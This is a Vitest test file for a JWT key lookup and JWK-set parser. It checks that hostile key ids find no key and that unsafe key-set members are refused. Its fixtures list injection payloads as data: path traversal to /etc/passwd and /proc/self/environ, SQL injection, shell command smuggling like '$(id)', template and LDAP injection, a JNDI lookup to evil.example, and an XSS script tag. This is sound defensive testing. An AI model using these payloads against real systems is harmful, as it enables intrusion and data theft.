/** Rows C7 and C8: key ids are looked up, never interpreted; a key set with a trap in it is refused. */
import { randomBytes } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { parseJwkSet } from '../../src/keys/jwk-set.ts';
import { createLocalKeys } from '../../src/keys/local-keys.ts';
import { freshKey, testKey } from '../support/keys.ts';
import { ISSUER, makeToken, verifierOf } from '../support/tokens.ts';
import { outcome, verdict } from '../support/verdicts.ts';

const key = testKey('ES256');

const PLACES = [
  '/etc/passwd',
  '../../../../dev/null',
  'file:///dev/null',
  'C:\\Windows\\win.ini',
  '\\\\host\\share',
  '/proc/self/environ',
  'https://evil.example/key',
  '//evil.example',
];
const COMMANDS = [
  "' OR '1'='1",
  '1; DROP TABLE keys--',
  "' UNION SELECT 'secret",
  '$(id)',
  '`id`',
  '| id',
  '; sleep 5',
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '%s%n',
  '*)(uid=*',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
];
const TEXTS = [
  '',
  '\0',
  'a\0b',
  '\r\nX: y',
  '\u202e',
  '\u200b',
  '\ufeff',
  '\u{1f600}',
  'Ω≈ç√',
  '田中さん',
  'ﷺ',
  'Z\u0351\u036b',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e400',
  '[object Object]',
  ' ',
  '%00',
  '%2e%2e%2f',
];
const NAMES = Object.getOwnPropertyNames(Object.prototype).concat(
  Object.getOwnPropertyNames(Function.prototype),
  Object.getOwnPropertyNames(Map.prototype),
);
/** Each of them alone, before, behind and around the real key id. */
const KIDS = [...PLACES, ...COMMANDS, ...TEXTS, ...NAMES]
  .flatMap((text) => [
    text,
    text + key.kid,
    key.kid + text,
    text + key.kid + text,
    text.repeat(3),
    `${text}/${key.kid}`,
    `${key.kid}\0${text}`,
  ])
  .filter((kid) => kid !== key.kid);

describe('C7: hostile key ids', () => {
  test('C7: at least 515 of them find nothing', async () => {
    expect(KIDS.length).toBeGreaterThanOrEqual(515);
    const verifier = verifierOf(key);
    for (const kid of KIDS)
      expect(await verdict(verifier, makeToken(key, { header: { kid } })), kid).toMatch(/^(key_unknown|header_invalid)$/);
  });

  test('C7: a key id has 1 to 256 characters and is text', async () => {
    const verifier = verifierOf(key);
    for (const kid of ['', 'x'.repeat(257), 'x'.repeat(5000), 5, null, true, [key.kid], { kid: key.kid }]) {
      expect(await verdict(verifier, makeToken(key, { header: { kid } }))).toBe('header_invalid');
    }
    const longest = freshKey('ES256', 'k'.repeat(256));
    expect(await verdict(verifierOf(longest), makeToken(longest))).toBe('accepted');
    for (const kid of ['', 'k'.repeat(257), 5, null]) {
      expect(outcome(() => createLocalKeys({ issuer: ISSUER, keys: [{ ...key.material, kid } as never] }))).toBe(
        'config_invalid',
      );
    }
  });

  test('C7: a key id that names no key is not ignored; without one, the only fitting key is taken, and of two none', async () => {
    const other = freshKey('ES256', 'other');
    const nameless = { ...freshKey('ES256').material, kid: undefined };
    expect(await verdict(verifierOf(key), makeToken(key, { header: { kid: undefined } }))).toBe('accepted');
    expect(await verdict(verifierOf([key, other]), makeToken(key, { header: { kid: undefined } }))).toBe('key_unknown');
    expect(await verdict(verifierOf([key, testKey('RS256')]), makeToken(key, { header: { kid: undefined } }))).toBe('accepted');
    const keys = createLocalKeys({ issuer: ISSUER, keys: [nameless as never] });
    expect(await verdict(verifierOf(key, { keys }), makeToken(key))).toBe('key_unknown');
  });
});

describe('C8: traps in a key set', () => {
  const jwk = (one: typeof key, extra: object = {}): object => ({
    ...one.publicKey!.export({ format: 'jwk' }),
    kid: one.kid,
    alg: one.alg,
    ...extra,
  });
  const ALGORITHMS = ['ES256', 'RS256'];
  const parse = (...keys: unknown[]): ReturnType<typeof parseJwkSet> => parseJwkSet({ keys }, ALGORITHMS);

  test('C8: two different keys under one kid and alg refuse the whole set', () => {
    expect(outcome(() => parse(jwk(key), jwk(freshKey('ES256', key.kid))))).toBe('config_invalid');
    expect(parse(jwk(key), jwk(key)).keys).toHaveLength(2);
    expect(parse(jwk(key), jwk(testKey('RS256'), { kid: key.kid })).keys).toHaveLength(2);
  });

  test('C8: a symmetric key is refused also where the allow-list has HMAC', () => {
    const secret = { kty: 'oct', k: randomBytes(64).toString('base64url'), alg: 'HS256', kid: 'x' };
    expect(parseJwkSet({ keys: [secret] }, ['HS256'])).toMatchObject({ keys: [], ignored: [{ index: 0 }] });
  });

  test('C8: the two names of Ed25519 are one algorithm here as well', () => {
    const [one, two] = [freshKey('Ed25519', 'ed'), freshKey('EdDSA', 'ed')];
    expect(outcome(() => parseJwkSet({ keys: [jwk(one), jwk(two)] }, ['Ed25519', 'EdDSA']))).toBe('config_invalid');
  });

  test('C8: one Ed25519 key under both of its names verifies both', async () => {
    const one = freshKey('Ed25519', 'ed');
    const keys = createLocalKeys({
      issuer: ISSUER,
      jwks: { keys: [jwk(one), jwk(one, { alg: 'EdDSA' })] },
      algorithms: ['Ed25519', 'EdDSA'],
    });
    const verifier = verifierOf(one, { keys });
    expect(await verdict(verifier, makeToken(one))).toBe('accepted');
    expect(await verdict(verifier, makeToken(one, { header: { alg: 'EdDSA' } }))).toBe('accepted');
  });

  test.each<[string, object]>([
    ['a symmetric key', { kty: 'oct', k: 'c2VjcmV0', alg: 'HS256', kid: 'x' }],
    ['a symmetric key without alg', { kty: 'oct', k: '' }],
    ['a private key', jwk(key, { d: 'AAAA', kid: 'private' })],
    ['a key for encryption', jwk(key, { use: 'enc', kid: 'enc' })],
    ['a key that may only sign', jwk(key, { key_ops: ['sign'], kid: 'sign' })],
    ['an unknown key type', { kty: 'AKP', alg: 'ML-DSA-44', pub: 'AA' }],
    ['no key type', { alg: 'ES256' }],
    ['an algorithm outside of the list', jwk(testKey('ES384'))],
    ['alg none', jwk(key, { alg: 'none', kid: 'none' })],
    ['a point off the curve', jwk(key, { y: Buffer.alloc(32, 1).toString('base64url'), kid: 'off' })],
    ['a kid that is a number', jwk(key, { kid: 5 })],
    ['a kid that is empty', jwk(key, { kid: '' })],
  ])('C8: %s is passed over with a reason, and the good key beside it works (JO-9)', (_, member) => {
    const set = parse(member, jwk(key));
    expect(set.keys.map((one) => one.kid)).toEqual([key.kid]);
    expect(set.ignored).toEqual([{ index: 0, reason: expect.stringMatching(/./) }]);
    expect(outcome(() => createLocalKeys({ issuer: ISSUER, jwks: { keys: [member] }, algorithms: ALGORITHMS }))).toBe(
      'config_invalid',
    );
  });

  test.each([null, undefined, [], 5, 'x', true])('C8: the member %j is passed over', (member) => {
    expect(parse(member, jwk(key)).ignored).toHaveLength(1);
  });

  test.each([
    null,
    undefined,
    [],
    {},
    { keys: null },
    { keys: {} },
    { keys: 'x' },
    'x',
    5,
    { keys: Array.from({ length: 101 }, () => ({})) },
  ])('C8: %j is no key set', (value) => {
    expect(outcome(() => parseJwkSet(value, ALGORITHMS))).toBe('config_invalid');
  });
});
